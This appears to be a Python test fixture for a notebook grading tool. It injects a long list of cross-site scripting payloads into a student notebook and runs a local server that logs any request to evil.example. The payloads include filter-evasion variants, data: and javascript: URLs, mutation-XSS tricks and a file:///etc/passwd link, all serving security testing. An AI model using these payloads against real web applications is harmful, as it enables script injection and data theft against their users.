"""A page's worth of what must not reach a browser, and a witness of what does."""

from __future__ import annotations

import base64
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

# Whatever runs calls this; whatever is fetched is fetched from here.
RUN = "window.ran=1;document.title='taken over'"
EVIL = "http://evil.example"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PAGE = base64.b64encode(f"<script>opener&&(opener.ran=1);{RUN}</script>".encode()).decode()

# Markup that is hostile in markdown and in HTML alike.
TAGS = (
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/s.js></script>",
    f'<img src=x onerror="{RUN}">',
    f'<IMG SRC="{EVIL}/i.png" srcset="{EVIL}/j.png 2x" lowsrc="{EVIL}/k.png">',
    f'<img/src="{EVIL}/l.png"/alt=x>',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="jAvA&#9;script&colon;{RUN}">click</a>',
    f'<a href="&#1;javascript:{RUN}">click</a>',
    f'<a href="data:text/html;base64,{PAGE}">click</a>',
    f'<a href="vbscript:{RUN}">click</a> <a href="{EVIL}/a" ping="{EVIL}/ping">click</a>',
    '<a href="//evil.example/b" target=_top>click</a> <a href="feedback.html">click</a>',
    f'<map name=m><area shape=default href="javascript:{RUN}"></map>',
    SVG,
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    f'<svg><image href="{EVIL}/v.png"/><use href="{EVIL}/u.svg#x"/></svg>',
    f'<svg><style>@import "{EVIL}/x.css";</style></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">click</maction></math>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/m">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="{EVIL}/base/">',
    f'<link rel=stylesheet href="{EVIL}/l.css"><link rel=prefetch href="{EVIL}/p">',
    f'<link rel=dns-prefetch href="//dns.evil.example"><link rel=icon href="{EVIL}/f.ico">',
    f"<style>@import url({EVIL}/c.css); body{{background:url({EVIL}/d.png)}}</style>",
    f'<p style="background:url({EVIL}/e.png)">p</p>',
    f'<p style="background-color:url({EVIL}/e.png);color:expression({RUN})">p</p>',
    f'<p style="list-style:url({EVIL}/f.png);position:fixed;inset:0">p</p>',
    f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/u.png">t</table>',
    f'<form action="{EVIL}/form"><input name=x autofocus onfocus="{RUN}"><button>click</button>',
    f'<form action="javascript:{RUN}"><button id=go>click</button></form>',
    f'<button formaction="javascript:{RUN}" onclick="{RUN}">click</button>',
    f'<isindex action="javascript:{RUN}" type=image>',
    f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f'<iframe src="javascript:parent.ran=1"></iframe><frameset onload="{RUN}">',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/embed"><applet code=x></applet>',
    f'<object type="text/html" data="data:text/html;base64,{PAGE}"></object>',
    f'<video src="{EVIL}/v.mp4" poster="{EVIL}/v.png" autoplay onerror="{RUN}"></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay></audio><picture><source srcset="{EVIL}/s.png"></picture>',
    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}">click</summary>x</details>',
    f'<marquee onstart="{RUN}">m</marquee><b onmouseover="{RUN}" onclick="{RUN}">click</b>',
    f'<p style="animation-name:x" onanimationstart="{RUN}">p</p>',
    f'<b accesskey=x tabindex=1 onfocus="{RUN}" autofocus contenteditable>click</b>',
    f'<template><script>{RUN}</script></template><portal src="{EVIL}/portal"></portal>',
    f'<!--[if IE]><script>{RUN}</script><![endif]--><?xml-stylesheet href="{EVIL}/x.xsl"?>',
    f"</pre></div></body></html><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<p title="\x00<script>{RUN}</script>">p</p>',
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    '<p id="notebook" name="formgrader" class="navbar-fixed-top btn full-credit">p</p>',
    f"<textarea></textarea><script>{RUN}</script>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<title></title><script>{RUN}</script>",
    "<plaintext>",
)

MARKDOWN = (
    f"[click](javascript:{RUN.replace(' ', '%20')})",
    f"[click](<javascript:{RUN}>)",
    "[click](java&#115;cript:window.ran=1)",
    "[click](java&Tab;script&colon;window.ran=1)",
    "[click](\x01javascript:window.ran=1)",
    "[click](JaVaScRiPt:window.ran=1)",
    f"[click](data:text/html;base64,{PAGE})",
    "[click](vbscript:window.ran=1) [click](file:///etc/passwd)",
    "[click][ref] ![see][picture]\n\n[ref]: javascript:window.ran=1\n"
    f"[picture]: {EVIL}/reference.png",
    f"[click]({EVIL}/link) [click](//evil.example/link) <{EVIL}/auto> {EVIL}/bare",
    "<javascript:window.ran=1>",
    "[click](/logout) [click](../../formgrader/?path=/tmp) [click](evil.html)",
    f"![x]({EVIL}/inline.png) ![x](//evil.example/protocol.png) ![x](\\\\evil.example\\share.png)",
    f"[![badge]({EVIL}/badge.svg)](javascript:window.ran=1)",
    "![x](/logout) ![x](../../../gradebook.db) ![x](data:image/svg+xml;base64,"
    f"{base64.b64encode(SVG.encode()).decode()})",
    f"![x](data:text/html;base64,{PAGE})",
    '![x" onerror="window.ran=1](groups.png) ![x](groups.png "a\\" onerror=\\"window.ran=1")',
    "![x](attachment:evil.svg) ![x](attachment:evil.html) ![x](attachment:quote.png)",
    "$\\href{javascript:window.ran=1}{click}$",
    f"$$\\style{{background:url({EVIL}/m.png)}}{{x}}$$",
    f"$\\class{{btn}}{{x}}$ $\\cssId{{notebook}}{{x}}$ $\\bbox[background:url({EVIL}/n)]{{x}}$",
    f"$<img src=x onerror={RUN.split(';')[0]}>$ $$<script>{RUN}</script>$$",
    f"\\begin{{a}}<script>{RUN}</script>\\end{{a}} \\\\[<script>{RUN}</script>\\\\]",
    f"```mermaid\n</pre><script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"```html\n</pre><script>{RUN}</script>\n```",
    f"# <script>{RUN}</script> <b onclick={RUN.split(';')[0]}>click</b>",
    f"|a|\n|-|\n|<img src={EVIL}/cell.png>|",
    f"- [ ] <input onfocus={RUN.split(';')[0]} autofocus>",
)

ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "evil.html": {"text/html": PAGE},
    "quote.png": {"image/png": 'aGk=" onerror="window.ran=1'},
}

BUNDLES = (
    {"application/javascript": RUN},
    {"image/svg+xml": SVG},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>" + RUN}},
    {"text/latex": f"$\\href{{javascript:window.ran=1}}{{click}}$<script>{RUN}</script>"},
    {"text/vnd.mermaid": f"</pre><script>{RUN}</script>"},
    {"image/png": 'aGk=" onerror="window.ran=1'},
    {"image/jpeg": f'x"><script>{RUN}</script>'},
    {"application/pdf": PAGE, f"<script>{RUN}</script>/x": "x"},
    {"text/plain": f"<script>{RUN}</script>\x1b[31m<img src={EVIL}/ansi.png>\x1b[0m"},
)


class Witness(ThreadingHTTPServer):
    """A proxy that answers nothing and remembers what it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Asked)
        self.asked: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        """What a browser's option names."""
        return f"127.0.0.1:{self.server_port}"

    def of_students(self) -> list[str]:
        """Requests to the addresses that hostile pages name."""
        return [each for each in self.asked if "evil.example" in each]


class Asked(BaseHTTPRequestHandler):
    """Writes down a request and refuses it."""

    def do_GET(self) -> None:
        """Write down the address."""
        self.server.asked.append(self.path)
        self.send_error(403)

    do_POST = do_CONNECT = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


def hostile(notebook: NotebookNode) -> NotebookNode:
    """Return the notebook with an essay, answers and cells that hold all of it."""
    answer = f"def linear_parameters(*_, **__):\n    return {TAGS[0]!r}"
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == "essay_parameters":
            cell.source = "Mine " + "\n\n".join(TAGS[:20])
        elif grade_id == "linear_parameters":
            cell.source = answer
    for text in (*TAGS, *MARKDOWN):
        notebook.cells.append(new_markdown_cell(text, attachments=ATTACHMENTS))
    shown = [{"text/html": text} for text in TAGS] + [{"text/markdown": text} for text in MARKDOWN]
    for bundles in (shown, list(BUNDLES)):
        code = f"for bundle in {bundles!r}:\n    display(bundle, raw=True)"
        notebook.cells.append(new_code_cell(f"from IPython.display import display\n{code}"))
    notebook.cells.append(new_code_cell(f"raise ValueError({TAGS[0]!r})"))
    return notebook
